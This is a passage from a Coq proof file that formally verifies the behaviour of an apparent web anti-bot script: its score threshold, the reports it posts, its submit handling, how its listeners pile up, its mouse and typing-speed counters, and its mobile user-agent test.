    at least two of its eleven signals fire. *)
Theorem pass_needs_two_signals (e : Environment) (p : Page) :
  0 <= botDetectionScore (fst (detectBot e p)) <= 18 /\
  (snd (detectBot e p) = true -> (2 <= fired (map fst (signals e)))%nat).
Proof.
  rewrite detectBot_score, detectBot_verdict.
  assert (Forall (fun s => 0 <= snd s) (signals e)) as Hnonneg.
  { unfold signals, automationMarkers, otherSignals. cbn [map app].
    repeat constructor; cbn [snd]; lia. }
  assert (Forall (fun s => snd s <= 2) (signals e)) as Hsmall.
  { unfold signals, automationMarkers, otherSignals. cbn [map app].
    repeat constructor; cbn [snd]; lia. }
  pose proof (firedWeight_nonneg _ Hnonneg).
  pose proof (firedWeight_upper _ Hnonneg) as Hupper.
  rewrite signals_weights in Hupper. cbn [fold_right] in Hupper.
  pose proof (firedWeight_count _ Hsmall).
  split; [lia|].
  unfold BOT_THRESHOLD. intros Hbot. apply Z.leb_le in Hbot. lia.
Qed.

Lemma pass_needs_two_signals_witness :
  botDetectionScore (fst (detectBot headless (initAntiBotProtection headless))) = 18 /\
  (2 <= fired (map fst (signals headless)))%nat.
Proof.
  split; [reflexivity|].
  refine (proj2 (pass_needs_two_signals headless
                   (initAntiBotProtection headless)) _).
  reflexivity.
Defined.

(** *** The reports of the periodic loop *)

Lemma step_reports (e : Environment) (p : Page) (ev : Event) :
  cachedFingerprint (fst (step e p ev)) = cachedFingerprint p /\
  reports (fst (step e p ev))
  = (reports p
     ++ match ev with
        | tick now =>
            if BOT_THRESHOLD <=? firedWeight (signals e) then
              [ {| score := firedWeight (signals e);
                   fingerprint := cachedFingerprint p; timestamp := now |} ]
            else []
        | _ => []
        end)%list.
Proof.
  destruct ev as [x y|now|website|now|state permission]; cbn [step].
  - cbn. by rewrite app_nil_r.
  - cbn. by rewrite app_nil_r.
  - pose proof (listeners_session e website (submitListeners p) p noSubmission)
      as [Hc Hr].
    destruct (fold_left _ _ _) as [p' s]. cbn [fst] in *.
    by rewrite app_nil_r.
  - pose proof (detectBot_session e p) as [Hc Hr].
    pose proof (detectBot_score e p) as Hscore.
    pose proof (detectBot_verdict e p) as Hverdict.
    destruct (detectBot e p) as [p' bot]. cbn [fst snd] in *.
    rewrite <- Hverdict.
    destruct bot; cbn [fst cachedFingerprint reports].
    + rewrite Hc, Hr, Hscore. split; reflexivity.
    + rewrite app_nil_r. split; assumption.
  - destruct (pendingQueries p); cbn [fst]; [by rewrite app_nil_r|].
    match goal with
    | |- context [ addIf ?c ?w ?q ] =>
        destruct (addIf_session c w q) as [-> ->]
    end.
    cbn. by rewrite app_nil_r.
Qed.

Lemma play_reports (e : Environment) (events : list Event) (p : Page) :
  cachedFingerprint (fst (play e p events)) = cachedFingerprint p /\
  reports (fst (play e p events))
  = (reports p
     ++ if BOT_THRESHOLD <=? firedWeight (signals e) then
          map (fun now => {| score := firedWeight (signals e);
                             fingerprint := cachedFingerprint p;
                             timestamp := now |}) (ticks events)
        else [])%list.
Proof.
  revert p. induction events as [|ev events IH]; intros p; cbn [play].
  - cbn [ticks map fst]. destruct (_ <=? _); by rewrite app_nil_r.
  - destruct (step_reports e p ev) as [Hc Hr].
    destruct (step e p ev) as [p' o]. cbn [fst] in *.
    destruct (IH p') as [Hc' Hr'].
    destruct (play e p' events) as [p'' os]. cbn [fst] in *.
    rewrite Hc', Hr', Hr, Hc. split; [reflexivity|].
    rewrite <- app_assoc. f_equal.
    destruct ev; cbn [ticks map app]; try reflexivity.
    destruct (_ <=? _); reflexivity.
Qed.

(** X10.  The reports a page sends (the bodies posted to
    /log-bot-activity) are read off the ticks alone: in an environment
    whose pass reaches the threshold there is one report for each tick,
    in order, with the score of the pass, the fingerprint computed at
    start and the time of the tick; in any other environment there is
    none.  What the listeners and the permission callback add between
    two ticks appears in no report. *)
Theorem reports_follow_ticks (e : Environment) (events : list Event) :
  reports (fst (play e (initAntiBotProtection e) events))
  = if BOT_THRESHOLD <=? firedWeight (signals e) then
      map (fun now => {| score := firedWeight (signals e);
                         fingerprint := generateFingerprint e;
                         timestamp := now |}) (ticks events)
    else [].
Proof.
  destruct (play_reports e events (initAntiBotProtection e)) as [_ ->].
  reflexivity.
Qed.

(** *** Submit events, in full *)

Lemma submit_outcome (e : Environment) (website : string) (p : Page) :
  installed p ->
  exists p',
    step e p (submit website)
    = (p', submitted
             {| defaultPrevented := true;
                verdict := Some (BOT_THRESHOLD <=? firedWeight (signals e));
                scoreAtVerdict := firedWeight (signals e);
                alerted := BOT_THRESHOLD <=? firedWeight (signals e);
                fetchScheduled := negb (BOT_THRESHOLD <=? firedWeight (signals e)) |}) /\
    frame p'
    = ((trackers p ++ [ newTracker ])%list,
       (submitListeners p ++ [ behaviorListener (List.length (trackers p)) ])%list).
Proof.
  intros Hp. cbn [step].
  replace (fold_left (runListener e website) (submitListeners p) (p, noSubmission))
    with (fold_left (runListener e website)
            (honeypotListener :: timingListener
             :: map behaviorListener (seq 0 (List.length (trackers p))))
            (p, noSubmission))
    by (unfold installed in Hp; by rewrite Hp).
  cbn [fold_left].
  set (after_honeypot := runListener e website (p, noSubmission) honeypotListener).
  assert (frame (fst after_honeypot) = frame p) as Hframe1.
  { subst after_honeypot. cbn [runListener].
    by destruct (truthy (text website)). }
  destruct after_honeypot as [p1 s1]. cbn [fst] in Hframe1.
  cbn [runListener].
  pose proof (detectBot_score e p1) as Hscore.
  pose proof (detectBot_verdict e p1) as Hverdict.
  pose proof (detectBot_frame e p1) as Hframe2.
  destruct (detectBot e p1) as [p2 bot]. cbn [fst snd] in *.
  match goal with
  | |- context [ fold_left _ (map behaviorListener ?idx) (p2, ?s2) ] =>
      destruct (behavior_listeners e website idx p2 s2) as [Hs Hframe3];
      destruct (fold_left (runListener e website) (map behaviorListener idx) (p2, s2))
        as [p3 s3]
  end.
  cbn [fst snd] in *. subst s3 bot. rewrite Hscore.
  exists p3. split; [reflexivity|].
  rewrite Hframe3, Hframe2. injection Hframe1 as -> ->. reflexivity.
Qed.

(** X11.  On a page the script set up, whatever happened before and
    whatever the honeypot field holds, a submit event always cancels the
    default submission; the verdict is that of the signals of the pass,
    and exactly one of two things follows: the error alert when the
    verdict is bot, the delayed [fetch] of the form otherwise. *)
Theorem submit_cancels_default (e0 e : Environment) (events : list Event)
    (website : string) :
  exists p',
    step e (fst (play e0 (initAntiBotProtection e0) events)) (submit website)
    = (p', submitted
             {| defaultPrevented := true;
                verdict := Some (BOT_THRESHOLD <=? firedWeight (signals e));
                scoreAtVerdict := firedWeight (signals e);
                alerted := BOT_THRESHOLD <=? firedWeight (signals e);
                fetchScheduled := negb (BOT_THRESHOLD <=? firedWeight (signals e)) |}).
Proof.
  destruct (submit_outcome e website
              (fst (play e0 (initAntiBotProtection e0) events)))
    as (p' & Hstep & _).
  - apply play_installed. reflexivity.
  - eauto.
Qed.

(** *** The listeners pile up *)

Lemma step_trackers (e : Environment) (p : Page) (ev : Event) :
  installed p ->
  List.length (trackers (fst (step e p ev)))
  = (List.length (trackers p) + passes [ ev ])%nat.
Proof.
  intros Hp. destruct ev as [x y|now|website|now|state permission];
    cbn [passes].
  - cbn [step fst trackers]. rewrite length_map. lia.
  - cbn [step fst trackers]. rewrite !length_map. lia.
  - destruct (submit_outcome e website p Hp) as (p' & -> & Hframe).
    cbn [fst]. injection Hframe as -> _. by rewrite length_app.
  - cbn [step]. pose proof (detectBot_frame e p) as Hframe.
    destruct (detectBot e p) as [p' bot]. cbn [fst] in *.
    injection Hframe as Ht _.
    destruct bot; cbn [trackers]; rewrite Ht; by rewrite length_app.
  - cbn [step]. destruct (pendingQueries p); cbn [fst]; [lia|].
    match goal with
    | |- context [ addIf ?c ?w ?q ] =>
        pose proof (addIf_frame c w q) as Hframe
    end.
    injection Hframe as -> _. cbn [trackers]. lia.
Qed.

Lemma play_trackers (e : Environment) (events : list Event) (p : Page) :
  installed p ->
  List.length (trackers (fst (play e p events)))
  = (List.length (trackers p) + passes events)%nat.
Proof.
  revert p. induction events as [|ev events IH]; intros p Hp; cbn [play].
  - cbn. lia.
  - pose proof (step_trackers e p ev Hp) as Hstep.
    pose proof (step_installed e p ev Hp) as Hinst.
    destruct (step e p ev) as [p' o]. cbn [fst] in *.
    specialize (IH p' Hinst).
    destruct (play e p' events) as [p'' os]. cbn [fst] in *.
    rewrite IH, Hstep. destruct ev; cbn [passes]; lia.
Qed.

(** X12.  No listener is ever removed and every pass adds its own: after
    any sequence of events the page holds one tracker (with its
    mousemove, input and submit listeners) for each tick and each submit
    so far, and the submit listeners of a form are the honeypot
    listener, the timing listener and one behavior listener for each of
    those passes, in that order. *)
Theorem passes_pile_up_listeners (e : Environment) (events : list Event) :
  List.length (trackers (fst (play e (initAntiBotProtection e) events)))
    = passes events /\
  submitListeners (fst (play e (initAntiBotProtection e) events))
    = honeypotListener :: timingListener
      :: map behaviorListener (seq 0 (passes events)).
Proof.
  assert (installed (initAntiBotProtection e)) as Hinit by reflexivity.
  pose proof (play_trackers e events _ Hinit) as Hlen.
  pose proof (play_installed e events _ Hinit) as Hinst.
  cbn [initAntiBotProtection trackers List.length] in Hlen.
  split; [exact Hlen|].
  unfold installed in Hinst. rewrite Hinst, Hlen. reflexivity.
Qed.

(** *** What a tracker counts *)

Lemma changes_bounds (lastX lastY : Z) (moves : list (Z * Z)) :
  0 <= changes lastX lastY moves <= Z.of_nat (List.length moves).
Proof.
  revert lastX lastY. induction moves as [|[x y] moves IH]; intros lastX lastY.
  - cbn. lia.
  - cbn [changes List.length]. specialize (IH x y).
    destruct ((x =? lastX) && (y =? lastY)); lia.
Qed.

Lemma moved_changes (moves : list (Z * Z)) (t : Tracker) :
  mouseMovements (moved moves t)
    = mouseMovements t + changes (lastMouseX t) (lastMouseY t) moves /\
  lastInputTime (moved moves t) = lastInputTime t /\
  suspiciousInputSpeed (moved moves t) = suspiciousInputSpeed t.
Proof.
  unfold moved. revert t. induction moves as [|[x y] moves IH]; intros t.
  - cbn. split_and!; [lia | reflexivity | reflexivity].
  - cbn [fold_left fst snd changes].
    destruct (IH (onMouseMove x y t)) as (-> & -> & ->).
    unfold onMouseMove.
    destruct (x =? lastMouseX t) eqn:Hx, (y =? lastMouseY t) eqn:Hy;
      cbn [negb orb andb mouseMovements lastMouseX lastMouseY lastInputTime
           suspiciousInputSpeed];
      try (split_and!; [lia | reflexivity | reflexivity]).
    apply Z.eqb_eq in Hx, Hy. subst x y.
    split_and!; [lia | reflexivity | reflexivity].
Qed.

Lemma play_moves (e : Environment) (moves : list (Z * Z)) (p : Page) :
  trackers (fst (play e p (map (fun m => mousemove (fst m) (snd m)) moves)))
    = map (moved moves) (trackers p) /\
  botDetectionScore
    (fst (play e p (map (fun m => mousemove (fst m) (snd m)) moves)))
    = botDetectionScore p.
Proof.
  revert p. induction moves as [|[x y] moves IH]; intros p.
  - cbn. split; [|reflexivity]. symmetry. apply map_id.
  - cbn [map play step fst snd].
    match goal with
    | |- context [ play e ?q ?evs ] =>
        destruct (IH q) as [Ht Hs]; destruct (play e q evs) as [p'' os]
    end.
    cbn [fst trackers botDetectionScore] in *.
    rewrite Ht, Hs. split; [|reflexivity].
    rewrite map_map. reflexivity.
Qed.

(** X13.  A tracker counts the changes of position, not the events: after
    the mouse went through a sequence of positions its count grew by the
    number of positions that differ from the one before (the first one
    compared with the last position the tracker saw, the origin for a
    new tracker), which is at most the number of events.  Mouse events
    leave the score alone. *)
Theorem mouse_counts_changes (e : Environment) (p : Page) (moves : list (Z * Z)) :
  trackers (fst (play e p (map (fun m => mousemove (fst m) (snd m)) moves)))
    = map (moved moves) (trackers p) /\
  botDetectionScore
    (fst (play e p (map (fun m => mousemove (fst m) (snd m)) moves)))
    = botDetectionScore p /\
  forall t,
    mouseMovements (moved moves t)
      = mouseMovements t + changes (lastMouseX t) (lastMouseY t) moves /\
    mouseMovements t <= mouseMovements (moved moves t)
      <= mouseMovements t + Z.of_nat (List.length moves).
Proof.
  destruct (play_moves e moves p) as [Ht Hs].
  split; [exact Ht|]. split; [exact Hs|].
  intros t. destruct (moved_changes moves t) as (Hcount & _ & _).
  pose proof (changes_bounds (lastMouseX t) (lastMouseY t) moves).
  split; [exact Hcount | lia].
Qed.

Lemma typed_speed (times : list Z) (t : Tracker) :
  snd (typed times t)
    = Z.max 0 (suspiciousInputSpeed (fst (typed times t))
               - Z.max 3 (suspiciousInputSpeed t)) /\
  suspiciousInputSpeed t <= suspiciousInputSpeed (fst (typed times t))
    <= suspiciousInputSpeed t + Z.of_nat (List.length times).
Proof.
  revert t. induction times as [|now times IH]; intros t.
  - cbn. lia.
  - cbn [typed List.length].
    destruct (onInput now t) as [t1 added] eqn:Hinput.
    specialize (IH t1).
    destruct (typed times t1) as [t2 more]. cbn [fst snd] in *.
    unfold onInput in Hinput. injection Hinput as <- <-.
    cbn [suspiciousInputSpeed] in *.
    destruct ((0 <? lastInputTime t) && (now - lastInputTime t <? 50));
      cbn [andb] in *.
    + destruct (3 <? suspiciousInputSpeed t + 1) eqn:Hover;
        [apply Z.ltb_lt in Hover | apply Z.ltb_ge in Hover]; lia.
    + lia.
Qed.

(** X14.  The typing-speed listener of a tracker adds 1 only from the
    fourth fast interval on, and its count of fast intervals is never
    reset: over any sequence of input events the number of additions is
    the part of the final count that lies above 3 (and above the initial
    count).  The first input after the listener was added is never fast,
    so a new tracker adds nothing during its first four input events. *)
Theorem typing_adds_above_three (times : list Z) (t : Tracker) :
  snd (typed times t)
    = Z.max 0 (suspiciousInputSpeed (fst (typed times t))
               - Z.max 3 (suspiciousInputSpeed t)) /\
  suspiciousInputSpeed t <= suspiciousInputSpeed (fst (typed times t))
    <= suspiciousInputSpeed t + Z.of_nat (List.length times) /\
  snd (typed times newTracker) <= Z.max 0 (Z.of_nat (List.length times) - 4).
Proof.
  destruct (typed_speed times t) as [Hadded Hspeed].
  split; [exact Hadded|]. split; [exact Hspeed|].
  destruct times as [|now times]; [cbn; lia|].
  cbn [typed List.length].
  change (onInput now newTracker)
    with ({| mouseMovements := 0; lastMouseX := 0; lastMouseY := 0;
             lastInputTime := now; suspiciousInputSpeed := 0 |}, false).
  cbv beta iota.
  match goal with
  | |- context [ typed times ?t1 ] =>
      destruct (typed_speed times t1) as [Hadded1 Hspeed1];
      destruct (typed times t1) as [t2 more]
  end.
  cbn [fst snd suspiciousInputSpeed] in *. lia.
Qed.

(** *** The mobile test *)

Lemma lower_idempotent (c : ascii) : lower (lower c) = lower c.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; reflexivity.
Qed.

Lemma starts_with_lowercase (word s : string) :
  starts_with word (lowercase s) = starts_with word s.
Proof.
  revert s. induction word as [|a word IH]; intros s; [by destruct s|].
  destruct s as [|b s]; [reflexivity|].
  cbn [lowercase starts_with]. by rewrite lower_idempotent, IH.
Qed.

Lemma occurs_lowercase (word s : string) :
  occurs word (lowercase s) = occurs word s.
Proof.
  induction s as [|b s IH].
  - reflexivity.
  - change (occurs word (lowercase (String b s)))
      with (starts_with word (lowercase (String b s))
            || occurs word (lowercase s)).
    rewrite starts_with_lowercase, IH. reflexivity.
Qed.

Lemma starts_with_app (word s after : string) :
  starts_with word s = true -> starts_with word (s ++ after) = true.
Proof.
  revert s. induction word as [|a word IH]; intros s; [by destruct s|].
  destruct s as [|b s]; [discriminate|].
  change (starts_with (String a word) (String b s))
    with (Ascii.eqb (lower a) (lower b) && starts_with word s).
  change (starts_with (String a word) (String b s ++ after))
    with (Ascii.eqb (lower a) (lower b) && starts_with word (s ++ after)).
  intros H. apply andb_true_iff in H as [Hhead Htail].
  by rewrite Hhead, (IH s Htail).
Qed.

Lemma occurs_app (word before s after : string) :
  occurs word s = true -> occurs word (before ++ s ++ after) = true.
Proof.
  intros H.
  assert (occurs word (s ++ after) = true) as Hafter.
  { clear before. induction s as [|b s IH].
    - cbn in H. rewrite orb_false_r in H.
      destruct word; [|discriminate]. by destruct after.
    - change (occurs word (String b s))
        with (starts_with word (String b s) || occurs word s) in H.
      change (occurs word (String b s ++ after))
        with (starts_with word (String b s ++ after) || occurs word (s ++ after)).
      apply orb_true_iff in H as [H|H].
      + by rewrite (starts_with_app _ _ after H).
      + rewrite (IH H). apply orb_true_r. }
  induction before as [|b before IH]; [exact Hafter|].
  change (occurs word (String b before ++ s ++ after))
    with (starts_with word (String b (before ++ s ++ after))
          || occurs word (before ++ s ++ after)).
  rewrite IH. apply orb_true_r.
Qed.

(** X15.  The mobile test of [checkBrowserConsistency] looks for its
    eight words anywhere in the agent string and in any case: two agent
    strings that differ only in the case of their letters get the same
    answer, and text added before or after a string that tests mobile
    does not change that. *)
Theorem isMobile_any_case_anywhere :
  (forall s s', lowercase s = lowercase s' -> isMobile s = isMobile s') /\
  (forall before ua after,
     isMobile ua = true -> isMobile (before ++ ua ++ after) = true).
Proof.
  split.
  - assert (forall s, isMobile (lowercase s) = isMobile s) as Hlower.
    { intros s. unfold isMobile, mobileWords. cbn [existsb].
      by rewrite !occurs_lowercase. }
    intros s s' Heq. by rewrite <- (Hlower s), <- (Hlower s'), Heq.
  - intros before ua after. unfold isMobile. rewrite !existsb_exists.
    intros (word & Hin & Hocc). exists word. split; [exact Hin|].
    by apply occurs_app.
Qed.

Lemma isMobile_any_case_anywhere_witness :
  isMobile "MOZILLA/5.0 (IPHONE; CPU IPHONE OS 17_0)"
    = isMobile "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0)" /\
  isMobile ("Mozilla/5.0 (" ++ "iPad" ++ "; CPU OS 17_0)") = true.
Proof.
  split.
  - apply (proj1 isMobile_any_case_anywhere). reflexivity.
  - apply (proj2 isMobile_any_case_anywhere). reflexivity.
Defined.
